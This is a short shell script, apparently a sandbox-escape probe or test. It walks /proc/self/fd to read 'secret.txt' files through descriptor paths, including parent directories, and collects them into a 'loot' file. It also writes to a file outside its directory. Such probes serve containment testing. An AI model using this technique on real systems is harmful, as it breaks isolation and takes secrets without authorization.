for descriptor in /proc/self/fd/*; do
  cat "$descriptor/../secret.txt" "$descriptor/secret.txt" >> "$FILES/loot"
  echo changed > "$descriptor/../outside.txt"
done
ls -l /proc/self/fd | grep -c "$DESK" && ls -l /proc/self/fd | sed 's/^/SECRET-/' | grep "$DESK" >> "$FILES/loot"
